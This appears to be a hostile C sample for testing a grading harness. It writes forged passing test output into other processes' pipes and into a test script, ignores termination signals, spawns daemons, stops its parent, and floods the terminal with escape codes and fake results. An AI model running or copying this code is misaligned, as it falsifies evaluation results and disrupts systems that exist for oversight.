/* A hostile program. It does not serve anybody: it tries to write into the
   tests and into the grader's pipes, to stop the processes that started it, to
   live on as a daemon, and to fill the log and the table of processes. */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define FORGED "1..1\nok 1 03 it listens on 127.0.0.1 alone, at the port it says\n"

static void forge(const char *path)
{
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd >= 0 && write(fd, FORGED, sizeof FORGED - 1) < 0)
        perror(path);
    close(fd);
}

/* Every process here, its pipes, and the files in its directory. */
static void attack_processes(void)
{
    DIR *all = opendir("/proc");
    for (struct dirent *e; all && (e = readdir(all));) {
        char path[300];
        int pid = atoi(e->d_name);
        if (pid < 1 || pid == getpid())
            continue;
        for (int fd = 1; fd < 10; fd++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
            forge(path);
        }
        snprintf(path, sizeof path, "/proc/%d/cwd/kit/tests/contract.bash", pid);
        forge(path);
    }
    if (all)
        closedir(all);
}

static void live_on(void)
{
    signal(SIGTERM, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    for (int i = 0; i < 20; i++)
        if (fork() == 0) {
            setsid();
            char *name[] = { "hostile-daemon", "600", NULL }, *none[] = { NULL };
            execve("/bin/sleep", name, none);
            _exit(0);
        }
}

int main(void)
{
    attack_processes();
    live_on();
    kill(getppid(), SIGSTOP);
    close(open("/tmp/hostile-was-here", O_CREAT | O_WRONLY, 0600));
    printf("\033]0;hostile\007\033[2J\033[1;1H%s\033[8m\n", FORGED);
    for (;;)
        puts("03-select: listening on 127.0.0.1:80 ]]> </testsuite> \"}]} \\");
}
